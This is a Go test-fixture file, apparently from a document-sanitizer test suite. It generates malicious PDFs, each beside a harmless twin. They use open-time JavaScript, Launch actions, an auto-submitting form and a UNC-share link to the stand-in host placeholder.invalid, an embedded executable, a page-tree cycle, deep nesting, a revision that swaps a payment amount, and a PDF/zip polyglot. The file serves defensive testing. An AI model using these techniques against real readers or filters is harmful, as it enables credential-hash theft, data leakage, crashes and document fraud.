package hostile

import (
	"bytes"
	"cmp"
	"fmt"
	"strings"

	"github.com/seed-40aebabe/placeholder/internal/pdf/structure"
)

// Clauses in this file refer to ISO 32000-1.
func pdfCases() []Case {
	return []Case{
		{Info{
			Token: "pdf-open-script", Format: "pdf", Title: "JavaScript on open", Verdict: Sanitize, CWE: 829,
			Attack:   "The document runs a script when it is opened.",
			Failure:  "The script changes the title of the document to " + Marker + ".",
			Harmless: "The action shows the page.",
		}, onOpen(`/S/JavaScript/JS(this.info.Title = "` + Marker + `";)`)},
		{Info{
			Token: "pdf-launch", Format: "pdf", Title: "Launch action", Verdict: Reject, CWE: 610,
			Attack:   "When the document is opened, it opens a local file with the program for its type.",
			Failure:  "The viewer opens the canary, or asks the user whether it may.",
			Harmless: "The action shows the page.",
		}, onOpen("/S/Launch/F(" + Canary + ")")},
		{Info{
			Token: "pdf-open-link", Format: "pdf", Title: "URL requested on open", Verdict: Sanitize, CWE: 918,
			Attack:   "The document requests a URL when it is opened, before anybody clicks the link on its page.",
			Failure:  "The viewer requests a URL of placeholder.invalid, or resolves that name.",
			Harmless: "The document requests the URL when somebody clicks the link.",
		}, openLink},
		{Info{
			Token: "pdf-submit-form", Format: "pdf", Title: "Form that submits itself", Verdict: Sanitize, CWE: 201,
			Attack:   "The document sends the values of its form to a host when its page is shown.",
			Failure:  "The viewer sends the values to placeholder.invalid, or resolves that name.",
			Harmless: "The action resets the form.",
		}, submitForm},
		{Info{
			Token: "pdf-embedded-program", Format: "pdf", Title: "Embedded program", Verdict: Reject, CWE: 434,
			Attack:   "A program is attached to the document.",
			Failure:  "The receiver saves the attachment, which begins with the bytes MZ.",
			Harmless: "A text is attached.",
		}, embeddedProgram},
		{Info{
			Token: "pdf-network-share", Format: "pdf", Title: "Document on a network share", Verdict: Reject, CWE: 40,
			Attack:   "When the document is opened, it opens another one on a network share, to which Windows sends the user's name and a hash of the password.",
			Failure:  "The viewer connects to placeholder.invalid, or resolves that name.",
			Harmless: "The action shows the page.",
		}, onOpen(`/S/GoToR/D[0/Fit]/F(\\\\placeholder.invalid\\share\\` + Canary + `)`)},
		{Info{
			Token: "pdf-page-cycle", Format: "pdf", Title: "Cycle in the page tree", Verdict: Reject, CWE: 835,
			Attack:   "A node of the page tree is its own descendant, so a walk over all pages never ends.",
			Failure:  "The receiver does not end, runs out of stack or counts thousands of pages.",
			Harmless: "The last kid of the node is a page.",
		}, pageCycle},
		{Info{
			Token: "pdf-nested-arrays", Format: "pdf", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
			Attack:   "An object has 100,000 nested arrays, to exhaust the stack of a recursive parser.",
			Failure:  "The receiver crashes.",
			Harmless: "The object has as many arrays side by side.",
		}, nestedArrays},
		{Info{
			Token: "pdf-replaced-page", Format: "pdf", Title: "Update that replaces the page", Verdict: Reject, CWE: 436,
			Attack:   "An incremental update replaces the text of the page, so what a program reads depends on the revision it uses.",
			Failure:  "One program reads “Pay 10 EUR”, another one “Pay 9000 EUR”.",
			Harmless: "The update replaces an object that no program shows.",
		}, replacedPage},
		{Info{
			Token: "pdf-zip", Format: "pdf", Title: "PDF that is also a zip", Verdict: Reject, CWE: 436, ASVS: "5.2.2",
			Attack:   "The document is also a zip archive, which a filter that sees only the PDF does not check.",
			Failure:  "The receiver accepts the file as a PDF, and an archiver extracts the canary from it.",
			Harmless: "The stream that would be the archive is a text of the same length.",
		}, pdfZip},
	}
}

// remoteURL is a URL of a host that cannot exist (RFC 6761).
const remoteURL = "http://placeholder.invalid/" + Canary

// A pdf is a document with a page. Objects that it needs in addition are numbered from 6 on.
type pdf struct {
	catalog, page string // more entries of their dictionaries
	pages         string // root of the page tree; by default it has the page alone
	text          string // of the page; by default "Placeholder"
	operators     string // more operators of the page
	resources     string // more entries of its resources
	objects       []string
}

func (p pdf) file() []byte {
	objects, offsets := structure.Head(append([]string{
		"<</Type/Catalog/Pages 2 0 R" + p.catalog + ">>",
		cmp.Or(p.pages, "<</Type/Pages/Kids[3 0 R]/Count 1>>"),
		pageOf(2, p.page, p.resources),
		pageText(cmp.Or(p.text, "Placeholder"), p.operators),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	}, p.objects...)...)
	return append(objects, structure.Tail(offsets, int64(len(objects)), "/Root 1 0 R")...)
}

// pageOf returns a page of A4 with more entries, also of its resources. Its parent is a node of the page tree.
func pageOf(parent int, entries, resources string) string {
	return fmt.Sprintf("<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>%s>>/Contents 4 0 R%s>>", parent, resources, entries)
}

// pageText returns the content of a page, with more operators.
func pageText(text, operators string) string {
	return structure.Stream("", "BT/F 24 Tf 72 740 Td("+text+")Tj ET"+operators)
}

// goToPage is the action of twins: it shows the page (12.6.4.2).
const goToPage = "/S/GoTo/D[3 0 R/Fit]"

// onOpen returns a document with an action that is performed when it is opened (12.6.2).
func onOpen(action string) func(twin bool) []byte {
	return func(twin bool) []byte {
		return pdf{catalog: "/OpenAction 6 0 R", objects: []string{"<<" + either(twin, goToPage, action) + ">>"}}.file()
	}
}

// openLink has a URL and a page as the targets of opening the document and of clicking a link. In
// the twin, only a click requests the URL.
func openLink(twin bool) []byte {
	opened, clicked := "<</S/URI/URI("+remoteURL+")>>", "<<"+goToPage+">>"
	if twin {
		opened, clicked = clicked, opened
	}
	return pdf{
		catalog: "/OpenAction 6 0 R",
		page:    "/Annots[<</Type/Annot/Subtype/Link/Rect[72 730 210 765]/A 7 0 R>>]",
		objects: []string{opened, clicked},
	}.file()
}

// submitForm has a text field, and an action when its page is opened (12.7.5.2). The twin resets
// the form instead.
func submitForm(twin bool) []byte {
	action := either(twin, "/S/ResetForm", "/S/SubmitForm/Flags 4/F<</FS/URL/F("+remoteURL+")>>")
	const look = "/DA(/F 12 Tf 0 g)"
	return pdf{
		catalog: "/AcroForm<</Fields[6 0 R]/DR<</Font<</F 5 0 R>>>>" + look + ">>",
		page:    "/Annots[6 0 R]/AA<</O<<" + action + ">>>>",
		objects: []string{
			"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Placeholder)/DV(Placeholder)/Rect[72 690 300 710]/P 3 0 R/F 4/AP<</N 7 0 R>>" + look + ">>",
			structure.Stream("/Type/XObject/Subtype/Form/BBox[0 0 228 20]/Resources<</Font<</F 5 0 R>>>>", "/Tx BMC q BT/F 12 Tf 2 6 Td(Placeholder)Tj ET Q EMC"),
		},
	}.file()
}

// embeddedProgram attaches a program, and the twin a text (7.11.4).
func embeddedProgram(twin bool) []byte {
	name, data := embeddedFile(twin)
	return pdf{
		catalog: "/PageMode/UseAttachments/Names<</EmbeddedFiles<</Names[(" + name + ")6 0 R]>>>>",
		objects: []string{
			"<</Type/Filespec/F(" + name + ")/EF<</F 7 0 R>>>>",
			structure.Stream("/Type/EmbeddedFile", string(data)),
		},
	}.file()
}

// embeddedFile returns a program, and a text for a twin.
func embeddedFile(twin bool) (name string, data []byte) {
	if twin {
		return "placeholder.txt", []byte(canaryText)
	}
	return "placeholder.exe", dosProgram()
}

// pageCycle has a node of the page tree with the root as its last kid, or with a page in the twin
// (7.7.3.2).
func pageCycle(twin bool) []byte {
	last := either(twin, "8 0 R", "2 0 R")
	return pdf{
		pages:   "<</Type/Pages/Kids[3 0 R 6 0 R]/Count 3>>",
		objects: []string{"<</Type/Pages/Parent 2 0 R/Kids[7 0 R " + last + "]/Count 2>>", pageOf(6, "", ""), pageOf(6, "", "")},
	}.file()
}

// nestedArrays has as many arrays in the twin, but beside each other.
func nestedArrays(twin bool) []byte {
	const depth = 100_000
	arrays := either(twin, "["+strings.Repeat("[]", depth-1)+"]", strings.Repeat("[", depth)+strings.Repeat("]", depth))
	return pdf{catalog: "/Placeholder 6 0 R", objects: []string{arrays}}.file()
}

// replacedPage has two revisions (7.5.6). The second one replaces the content of the page, and in
// the twin an object that no program shows.
func replacedPage(twin bool) []byte {
	file := pdf{catalog: "/Placeholder 6 0 R", text: "Pay 10 EUR", objects: []string{"(first)"}}.file()
	number, object := 4, pageText("Pay 9000 EUR", "")
	if twin {
		number, object = 6, "(second)"
	}
	table, offset := bytes.LastIndex(file, []byte("\nxref\n"))+1, len(file)
	file = fmt.Appendf(file, "%d 0 obj%s\nendobj\n", number, object)
	return fmt.Appendf(file, "xref\n%d 1\n%010d 00000 n \ntrailer<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n",
		number, offset, table, len(file))
}

// pdfZip has a stream of text in the twin. Otherwise, a zip of the same size replaces the text, and
// its comment is the rest of the file.
func pdfZip(twin bool) []byte {
	entry := zipText(Canary)
	size := len(zipOf(entry))
	text := strings.Repeat(canaryText, size)[:size]
	file := pdf{catalog: "/Placeholder 6 0 R", objects: []string{structure.Stream("", text)}}.file()
	if twin {
		return file
	}
	start := bytes.Index(file, []byte(text))
	return appendZip(file[:start:start], string(file[start+size:]), entry)
}
